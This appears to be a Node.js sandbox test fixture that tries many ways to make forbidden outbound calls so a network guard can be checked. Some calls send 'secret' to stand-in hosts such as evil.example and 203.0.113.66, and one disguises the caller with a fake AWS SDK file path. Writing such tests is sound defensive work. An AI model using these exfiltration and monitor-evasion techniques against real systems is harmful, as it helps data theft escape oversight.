// Runs inside the sandbox: `app.js <way>...`, forbidden calls, each way with its name in the log in front of it. As a handler it
// goes the first four.
'use strict';
const childProcess = require('node:child_process');
const dns = require('node:dns');
const { once } = require('node:events');
const fs = require('node:fs');
const net = require('node:net');
const { setTimeout: after } = require('node:timers/promises');
const vm = require('node:vm');
const { Worker, isMainThread, workerData } = require('node:worker_threads');
const { dial, redial, request, send } = require('dialer');
const starter = require('starter');

const quietly = (act) => {
  try {
    act();
  } catch {}
};

// The bodies that fetch takes. With one, undici connects in a later turn.
const bodies = {
  none: () => undefined,
  text: () => 'secret',
  bytes: () => Buffer.from('secret'),
  form: () => new URLSearchParams({ a: 'secret' }),
  parts: () => new FormData(),
  file: () => new Blob(['secret']),
  stream: () => new Blob(['secret']).stream(),
};

const ways = {
  by_address: () => dial(7001),
  by_name: () => dial(7002, 'evil.example'),
  by_spawn: () => starter.spawn(),
  async by_one_socket() {
    const socket = new net.Socket();
    for (let i = 0; i < 12; i++) await redial(socket, 7010 + i);
  },
  async after_await() {
    await after(1);
    await dial(7003);
  },
  async in_an_es_module() {
    await (await import('./module.mjs')).peek();
  },
  by_two_at_once: () => Promise.all([dial(7005), starter.spawn()]),
  async in_a_worker() {
    await once(new Worker(__filename, { workerData: 'by_address' }), 'exit');
  },
  async in_a_child() {
    await once(childProcess.fork(__filename, ['by_address'], { env: {} }), 'close');
  },
  by_exec: () => starter.exec(),
  by_exec_file: () => starter.execFile(),
  by_fork: () => starter.fork(),
  async under_a_false_name() {
    const filename = '/var/task/node_modules/@aws-sdk/client-s3/index.js';
    await vm.runInThisContext('(function send(dial) { return dial(7006); })', { filename })(dial);
  },
  async by_fetch() {
    for (const [kind, body] of Object.entries(bodies)) await send(`http://${kind}.evil.example:7030/`, body());
  },
  by_fetches_at_once: () =>
    Promise.all([send('http://203.0.113.66:7031/', 'secret'), starter.send('http://203.0.113.66:7032/', 'secret')]),
  by_request: () => request({ host: 'evil.example', port: 7033 }, 'secret'),
  // What has no channel.
  by_exec_sync: () => quietly(() => childProcess.execSync('true')),
  by_a_file: () => quietly(() => fs.readFileSync('/tmp/there')),
  by_dns: () => dns.promises.lookup('evil.example').catch(() => {}),
};

async function go(names) {
  for (const name of names) {
    if (!process.connected) fs.writeSync(2, `--- ${name}\n`); // not in a child
    await ways[name]();
    await after(20);
  }
}

exports.handler = async () => {
  await go(Object.keys(ways).slice(0, 4));
  return 'done';
};
if (!isMainThread) ways[workerData]();
else if (require.main === module) go(process.argv.slice(2));
